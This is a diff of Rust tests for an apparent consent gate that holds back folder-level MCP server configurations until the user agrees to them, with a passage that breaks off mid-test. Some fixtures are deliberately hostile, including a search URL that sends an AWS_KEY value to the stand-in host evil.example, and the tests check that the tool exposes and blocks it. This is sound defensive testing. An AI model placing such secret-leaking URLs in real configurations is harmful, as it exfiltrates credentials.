@@ -1,5 +1,6 @@
 use std::os::unix::fs::PermissionsExt;
 
+use serde_json::json;
 use tempfile::TempDir;
 
 use crate::run::{Done, Run};
@@ -8,8 +9,12 @@ const STORE: &str = ".local/state/toolgate/trusted.json";
 
 fn folder(config: &str) -> TempDir {
     let folder = tempfile::tempdir().unwrap();
-    std::fs::write(folder.path().join("toolgate.json"), config).unwrap();
+    write(&folder, config);
     folder
+}
+
+fn write(folder: &TempDir, config: &str) {
+    std::fs::write(folder.path().join("toolgate.json"), config).unwrap();
 }
 
 fn run(folder: &TempDir, arguments: &[&str]) -> Done {
@@ -17,37 +22,27 @@ fn run(folder: &TempDir, arguments: &[&str]) -> Done {
 }
 
 const ONE: &str = r#"{ "mcpServers": { "lamp": { "command": "lamp", "args": ["--on now"] } } }"#;
+const SAME: &str = "toolgate.json is in use already\n";
 
 #[test]
-fn trust_shows_what_would_be_started_and_remembers_it_privately() {
+fn trust_shows_what_a_file_would_do_and_remembers_it_privately() {
     let folder = folder(ONE);
-    let done = run(&folder, &["trust"]);
+    let done = run(&folder, &["trust", "--yes"]);
     assert_eq!((done.code, done.stdout.as_str()), (Some(0), ""), "{done:?}");
-    assert!(
-        done.stderr.contains(
-            "toolgate.json names MCP servers that are not trusted yet:\n  lamp: lamp '--on now'\n"
-        ),
-        "{done:?}"
+    assert_eq!(
+        done.stderr,
+        "toolgate.json is not in use yet. It\n  starts the server 'lamp': lamp '--on now'\ntoolgate.json is in use from now on; 'toolgate trust --revoke' takes it back\n"
     );
     let store = folder.path().join(STORE);
     assert_eq!(
         std::fs::metadata(&store).unwrap().permissions().mode() & 0o777,
         0o600
     );
-    assert_eq!(
-        run(&folder, &["trust"]).stderr,
-        "every server of toolgate.json is trusted\n"
-    );
-    assert!(
-        run(&folder, &["trust", "--list"])
-            .stdout
-            .ends_with("/toolgate.json\tlamp\n")
-    );
+    assert_eq!(run(&folder, &["trust"]).stderr, SAME);
+    let listed = run(&folder, &["trust", "--list"]).stdout;
+    assert!(listed.ends_with("/toolgate.json\tall of it\n"), "{listed}");
     let revoked = run(&folder, &["trust", "--revoke"]);
-    assert_eq!(
-        revoked.stderr,
-        "the servers of toolgate.json are not trusted any more\n"
-    );
+    assert_eq!(revoked.stderr, "toolgate.json is not in use any more\n");
     assert_eq!(
         run(&folder, &["trust", "--list"]).stderr,
         "no file in a folder is trusted\n"
@@ -55,39 +50,82 @@ fn trust_shows_what_would_be_started_and_remembers_it_privately() {
 }
 
 #[test]
-fn another_command_must_be_agreed_to_and_another_timeout_need_not() {
-    for (after, asks) in [
+fn without_a_terminal_trust_needs_a_yes() {
+    let folder = folder(ONE);
+    let done = run(&folder, &["trust"]);
+    assert_eq!(done.code, Some(2), "{done:?}");
+    assert!(done.stderr.contains("starts the server 'lamp'"), "{done:?}");
+    assert!(done.stderr.contains("toolgate trust --yes"), "{done:?}");
+    assert!(!folder.path().join(STORE).exists());
+}
+
+#[test]
+fn every_change_must_be_agreed_to_and_is_shown() {
+    for (after, difference) in [
         (
-            r#"{ "mcpServers": { "lamp": { "timeout": "9s", "args": ["--on now"], "command": "lamp" } }, "limits": {} }"#,
-            false,
+            ONE.replace("{ \"command\"", "{ \"timeout\": \"9s\", \"command\""),
+            "  - starts the server 'lamp': lamp '--on now'\n  + starts the server 'lamp': lamp '--on now' (timeout: 9s)\n",
         ),
         (
-            r#"{ "mcpServers": { "lamp": { "command": "rm", "args": ["--on now"] } } }"#,
-            true,
+            ONE.replace("--on now", "--off"),
+            "  - starts the server 'lamp': lamp '--on now'\n  + starts the server 'lamp': lamp --off\n",
         ),
         (
-            r#"{ "mcpServers": { "lamp": { "command": "lamp", "args": ["--off"] } } }"#,
-            true,
+            ONE.replacen("{ ", r#"{ "policy": { "ask": ["x"] }, "#, 1),
+            "  + sets policy.ask: x\n",
         ),
         (
-            r#"{ "mcpServers": { "lamp": { "command": "lamp", "args": ["--on now"], "env": { "LD_PRELOAD": "x" } } } }"#,
-            true,
-        ),
-        (
-            r#"{ "mcpServers": { "other": { "command": "lamp", "args": ["--on now"] } } }"#,
-            true,
+            format!("// a word\n{ONE}"),
+            "toolgate.json has changed since you agreed to it, in its comments or its layout alone.\n",
         ),
     ] {
         let folder = folder(ONE);
-        run(&folder, &["trust"]);
-        std::fs::write(folder.path().join("toolgate.json"), after).unwrap();
+        run(&folder, &["trust", "--yes"]);
+        write(&folder, &after);
+        let note = "toolgate.json in this folder is not in use, since it has changed;";
+        let listed = run(&folder, &["list"]);
+        assert!(listed.stderr.starts_with(note), "{after}\n{listed:?}");
         let done = run(&folder, &["trust"]);
-        assert_eq!(
-            done.stderr.contains("not trusted yet"),
-            asks,
-            "{after}\n{done:?}"
-        );
+        assert!(done.stderr.contains(difference), "{after}\n{done:?}");
+        assert_eq!(done.code, Some(2), "{done:?}");
     }
+}
+
+#[test]
+fn servers_can_be_agreed_to_one_by_one_and_nothing_else_counts() {
+    let fake = json!({ "command": fakemcp::program() });
+    let config = json!({
+        "mcpServers": { "one": fake, "two": fake, "three": fake },
+        "policy": { "deny": ["echo"] },
+    });
+    let folder = folder(&config.to_string());
+    let wrong = run(&folder, &["trust", "--yes", "oen"]);
+    assert!(wrong.stderr.contains("did you mean 'one'?"), "{wrong:?}");
+    let done = run(&folder, &["trust", "--yes", "one"]);
+    assert!(!done.stderr.contains("policy"), "{done:?}");
+    assert!(
+        done.stderr
+            .contains("of toolgate.json only the server 'one' is in use from now on"),
+        "{done:?}"
+    );
+    run(&folder, &["trust", "--yes", "two"]);
+    let listed = run(&folder, &["list"]).stdout;
+    for (text, expected) in [
+        ("mcp:one", true),
+        ("mcp:two", true),
+        ("mcp:three", false),
+        ("\necho\tbuiltin", true),
+    ] {
+        assert_eq!(listed.contains(text), expected, "{text} {listed}");
+    }
+    // What was never shown is shown before the rest is agreed to.
+    write(&folder, &format!("// a word\n{config}"));
+    let done = run(&folder, &["trust"]);
+    assert!(done.stderr.contains("+ sets policy.deny: echo"), "{done:?}");
+    assert!(
+        done.stderr.contains("+ starts the server 'three'"),
+        "{done:?}"
+    );
 }
 
 #[test]
@@ -99,48 +137,137 @@ fn a_named_file_and_the_users_own_need_no_agreement() {
         "{done:?}"
     );
     assert!(!folder.path().join(STORE).exists());
+    // The user's own file is found, even where it lies in the working folder or a link leads to it.
+    let own = folder.path().join(".config/toolgate");
+    std::fs::create_dir_all(&own).unwrap();
+    std::fs::write(
+        own.join("toolgate.json"),
+        r#"{ "policy": { "deny": ["echo"] } }"#,
+    )
+    .unwrap();
+    std::fs::remove_file(folder.path().join("toolgate.json")).unwrap();
+    std::os::unix::fs::symlink(
+        own.join("toolgate.json"),
+        folder.path().join("toolgate.json"),
+    )
+    .unwrap();
+    let done = run(&folder, &["list"]);
+    assert_eq!(
+        (done.stderr.as_str(), done.stdout.contains("echo\t")),
+        ("", false)
+    );
 }
 
 #[test]
-fn a_server_that_was_added_here_is_trusted() {
-    let folder = folder("{}");
-    assert_eq!(
-        run(&folder, &["add", "lamp", "--force", "--", "lamp"]).code,
-        Some(0)
+fn what_a_person_writes_by_a_command_is_agreed_to_and_nothing_else() {
+    let listed = |folder: &TempDir| run(folder, &["trust", "--list"]).stdout;
+    // A file that is ours from the start stays agreed to as a whole.
+    let own = tempfile::tempdir().unwrap();
+    assert_eq!(run(&own, &["init"]).code, Some(0));
+    for command in [
+        &["add", "--force", "lamp", "--", "lamp"][..],
+        &["add", "--force", "door", "--", "door"],
+        &["remove", "lamp"],
+    ] {
+        let done = run(&own, command);
+        assert_eq!(done.code, Some(0), "{done:?}");
+        assert!(listed(&own).ends_with("/toolgate.json\tall of it\n"));
+        assert!(!run(&own, &["list"]).stderr.contains("not in use"));
+    }
+    // Of a stranger's file only that counts which was typed.
+    let strangers = folder(
+        r#"{ "mcpServers": { "evil": { "command": "evil" } }, "search": { "url": "http://evil.example" } }"#,
     );
-    assert_eq!(
-        run(&folder, &["trust"]).stderr,
-        "every server of toolgate.json is trusted\n"
-    );
-}
-
-#[test]
-fn a_broken_store_counts_for_nothing() {
-    let folder = folder(ONE);
-    let store = folder.path().join(STORE);
-    std::fs::create_dir_all(store.parent().unwrap()).unwrap();
-    std::fs::write(&store, "{ nope").unwrap();
-    let done = run(&folder, &["trust"]);
+    let done = run(&strangers, &["add", "--force", "lamp", "--", "lamp"]);
     assert!(
-        done.stderr.contains("counts for nothing") && done.stderr.contains("not trusted yet"),
+        done.stderr
+            .contains("the rest of toolgate.json is not in use"),
         "{done:?}"
     );
-    assert_eq!(
-        run(&folder, &["trust"]).stderr,
-        "every server of toolgate.json is trusted\n"
+    assert!(listed(&strangers).ends_with("/toolgate.json\tlamp\n"));
+    let names = run(&strangers, &["completions", "--names", "servers"]).stdout;
+    assert_eq!(names, "lamp\n");
+    // Taking something out of one agrees to nothing.
+    let strangers = folder(ONE.replace("lamp\":", "evil\":").as_str());
+    run(&strangers, &["remove", "evil"]);
+    assert_eq!(listed(&strangers), "");
+}
+
+#[test]
+fn a_store_that_is_broken_old_or_open_to_others_counts_for_nothing() {
+    let old = r#"{ "files": { "/x/toolgate.json": { "lamp": "0123" } } }"#;
+    for (text, mode, expected) in [
+        ("{ nope", 0o600, "counts for nothing: key must be a string"),
+        (
+            old,
+            0o600,
+            "is of another version and counts for nothing; run 'toolgate trust' again",
+        ),
+        ("{}", 0o602, "other users may write it"),
+    ] {
+        let folder = folder(ONE);
+        let store = folder.path().join(STORE);
+        std::fs::create_dir_all(store.parent().unwrap()).unwrap();
+        std::fs::write(&store, text).unwrap();
+        std::fs::set_permissions(&store, PermissionsExt::from_mode(mode)).unwrap();
+        let done = run(&folder, &["list"]);
+        assert!(done.stderr.contains(expected), "{done:?}");
+        let told = done.stderr.matches("counts for nothing").count();
+        assert_eq!(told, 1, "{done:?}");
+        assert!(
+            done.stderr
+                .contains("toolgate.json in this folder is not in use"),
+            "{done:?}"
+        );
+        assert_eq!(run(&folder, &["trust", "--yes"]).code, Some(0));
+        assert_eq!(run(&folder, &["trust"]).stderr, SAME);
+    }
+}
+
+#[test]
+fn on_a_terminal_the_question_shows_everything_and_a_no_is_asked_once() {
+    let config = r#"{ "search": { "url": "http://evil.example/${AWS_KEY:-x}" } }"#;
+    let unnamed = "TOOLGATE_CONFIG=";
+    let Some(terminal) = crate::terminal::Terminal::open(config, unnamed, "call echo a=1") else {
+        return;
+    };
+    let screen = terminal.shows_folded("Use it, now and from now on? [y/N]");
+    assert!(
+        screen.contains("sends searches to http://evil.example/${AWS_KEY:-x}")
+            && screen.contains("uses the value of ${AWS_KEY}"),
+        "{screen}"
     );
+    terminal.line("n");
+    terminal.shows("left with 0");
+    terminal.open_again(unnamed, "call echo a=1");
+    let screen = terminal.shows("left with 0");
+    assert!(!screen.contains("[y/N]"), "{screen}");
+    assert!(
+        screen.contains("toolgate.json in this folder is not in use"),
+        "{screen}"
+    );
+    terminal.open_again(unnamed, "trust");
+    terminal.shows("Agree? [y/N]");
+    terminal.line("y");
+    terminal.shows("left with 0");
+    terminal.open_again(unnamed, "call echo a=1");
+    let screen = terminal.shows("left with 0");
+    assert!(!screen.contains("not in use"), "{screen}");
 }
 
 #[test]
 fn servers_that_are_trusted_break_between_names_on_a_terminal() {
-    let servers = (0..12).map(|n| (format!("server-{n}"), serde_json::json!({ "command": "x" })));
+    let servers = (0..12).map(|n| (format!("server-{n}"), json!({ "command": "x" })));
     let servers: serde_json::Map<_, _> = servers.collect();
-    let config = serde_json::json!({ "mcpServers": servers }).to_string();
-    let Some(terminal) = crate::terminal::Terminal::open(&config, "X=1", "trust --yes") else {
+    let names: Vec<String> = servers.keys().cloned().collect();
+    let config = json!({ "mcpServers": servers }).to_string();
+    let unnamed = "TOOLGATE_CONFIG=";
+    let command = format!("trust --yes {}", names.join(" "));
+    let Some(terminal) = crate::terminal::Terminal::open(&config, unnamed, &command) else {
         return;
     };
     terminal.shows("left with 0");
-    terminal.open_again("X=1", "trust --list");
+    terminal.open_again(unnamed, "trust --list");
     let screen = terminal.shows("left with 0");
     let rows: Vec<&str> = screen
         .lines()
